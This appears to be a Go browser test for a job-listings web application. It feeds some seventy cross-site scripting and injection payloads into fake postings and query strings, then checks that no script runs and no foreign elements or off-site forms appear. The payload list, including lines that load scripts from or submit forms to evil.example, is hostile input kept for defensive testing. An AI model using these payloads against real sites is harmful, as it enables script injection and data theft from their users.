//go:build unix

package browser

import (
	"fmt"
	"net/url"
	"strings"
)

// titles would do something where they were taken for more than texts.
var titles = []string{
	`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<SCRIPT>pwned=1</SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`"><script>pwned=1</script>`, `'><img src=x onerror=alert(1)>`, `<img src=http://evil.example/pixel.gif>`, `<img/src=x/onerror=pwned=1>`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,x"/></svg>`,
	`<math><mtext></p><style><img src onerror=alert(1)>`, `<iframe src=javascript:alert(1)></iframe>`, `<iframe srcdoc="<script>parent.pwned=1</script>">`,
	`<object data=//evil.example/x></object>`, `<embed src=//evil.example/x>`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=prefetch href=//evil.example/x>`,
	`<meta http-equiv=refresh content="0;url=//evil.example/">`, `<base href=//evil.example/>`, `<style>*{display:none}</style>`, `<style>@import "//evil.example/x.css"</style>`,
	`<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`, `<video><source onerror=alert(1)>`, `<audio src=//evil.example/x autoplay>`,
	`<form action=//evil.example><button>Apply`, `</form><form action=//evil.example>`, `<button formaction=//evil.example>x`, `<a href="javascript:alert(1)">Apply</a>`,
	`<a href=//evil.example>x</a>`, `<a ping=//evil.example href=/>x</a>`, `<b hx-get=//evil.example hx-trigger=load>x</b>`, `<b hx-on:click="alert(1)" data-hx-trigger=load>x</b>`,
	`<div hx-get="/posting" hx-trigger="load" hx-swap="outerHTML">`, `</textarea></title><script>alert(1)</script>`, `</h1></main></body></html><script>alert(1)</script>`,
	`</dd></dl></article></form><img src=x onerror=alert(1)>`, `<!-- --><script>alert(1)</script>`, `--!><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<template><script>alert(1)</script></template>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<plaintext>`, `<xmp><script>alert(1)</script>`,
	`{{.}}{{template "main"}}`, `${alert(1)}`, `{{constructor.constructor('alert(1)')()}}`, `<%= 1 %><?php echo 1 ?>`, `" onmouseover="alert(1)" x="`, `' onfocus='alert(1)' autofocus='`,
	"` onclick=alert(1) `", `javascript:alert(1)`, `data:text/html,<script>alert(1)</script>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;`,
	`\u003cscript\u003ealert(1)\u003c/script\u003e`, `%3Cscript%3Ealert(1)%3C/script%3E`, `<a href="//evil.example" class="chip" hx-boost=true>x</a>`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
	"\u202e\u2066gnitset\u2069\u202c ‮evil", `=HYPERLINK("http://evil.example","x")`, `कॉल सेंटर <script>alert("नमस्ते")</script>`, strings.Repeat("W", 300), strings.Repeat("<b>", 200),
}

// wide writes the signs of markup as texts of East Asia do. Markup is taken out of whatever is
// read, and only then are such signs made plain: what is stored has markup.
var wide = strings.NewReplacer("<", "＜", ">", "＞", "&", "＆")

// hostilePostings are postings with such titles, and with the same in each other field.
func hostilePostings() []map[string]string {
	var out []map[string]string
	for i, title := range titles {
		s := wide.Replace(title)
		out = append(out, map[string]string{
			"source": "hostile", "id": fmt.Sprintf("h-%d", i+1), "title": "Telecaller " + s, "company": s, "location": "Pune " + s,
			"salary": "12000 per month " + s, "skills": s, "experience": "0-1 years " + s, "url": "javascript:alert(1)//" + title,
			"description": "Answer calls of customers in night shift. Pay Rs 500 registration fee. " + s + " " + title,
		})
	}
	return out
}

// foreign gives what should not be part of a page: elements and attributes that do
// something, links that lead elsewhere, and what scripts of postings leave behind.
const foreign = `(() => {
	const out = [...document.querySelectorAll("main :is(script, style, img, iframe, object, embed, link, meta, base, video, audio, template, math, xmp, plaintext, textarea), head base")].map(e => e.outerHTML)
	if (document.scripts.length !== 1) out.push(document.scripts.length + " scripts")
	if (typeof pwned !== "undefined") out.push("a script of a posting ran")
	for (const e of document.querySelectorAll("*")) for (const a of e.attributes) {
		if (/^(on|style$|srcdoc|ping)/.test(a.name)) out.push(e.tagName + " " + a.name)
		if (a.name === "href" && /^\s*(javascript|data|vbscript):/i.test(a.value)) out.push(e.outerHTML)
	}
	for (const e of document.forms) if (new URL(e.action).host !== location.host) out.push(e.outerHTML)
	return out
})()`

// hostiles opens lists of hostile postings, and each of them. That no dialog opens, nothing
// is asked elsewhere and the console stays empty is what each tab wants.
func hostiles(b *tab) {
	const sixty = 60
	if len(titles) < sixty {
		b.Errorf("%d titles, want %d", len(titles), sixty)
	}
	for offset := 0; offset < len(titles); offset += 20 {
		b.open(fmt.Sprintf("/?source=hostile&offset=%d", offset))
		same(b, "what is foreign", value[[]string](b, foreign), []string{})
	}
	for i, title := range titles {
		to := fmt.Sprintf("/posting/hostile/h-%d", i+1)
		b.open(to)
		same(b, "what is foreign", value[[]string](b, foreign), []string{})
		if got, want := b.text("h1"), strings.Join(strings.Fields("Telecaller "+title), " "); got != want {
			b.Errorf("%s: the title is %q, want %q", to, got, want)
		}
		b.click("h1")
		if at := b.at(); at != to {
			b.Errorf("%s leads to %s", to, at)
		}
		b.fits("as it is")
	}
	for _, s := range titles {
		b.open("/?" + url.Values{"text": {s}, "city": {s}, "lang": {s}}.Encode())
		same(b, "what is foreign", value[[]string](b, foreign), []string{})
	}
	for _, view := range []string{"/pay?source=hostile&by=city", "/pay?source=hostile&by=company"} {
		b.open(view)
		same(b, "what is foreign", value[[]string](b, foreign), []string{})
	}
}
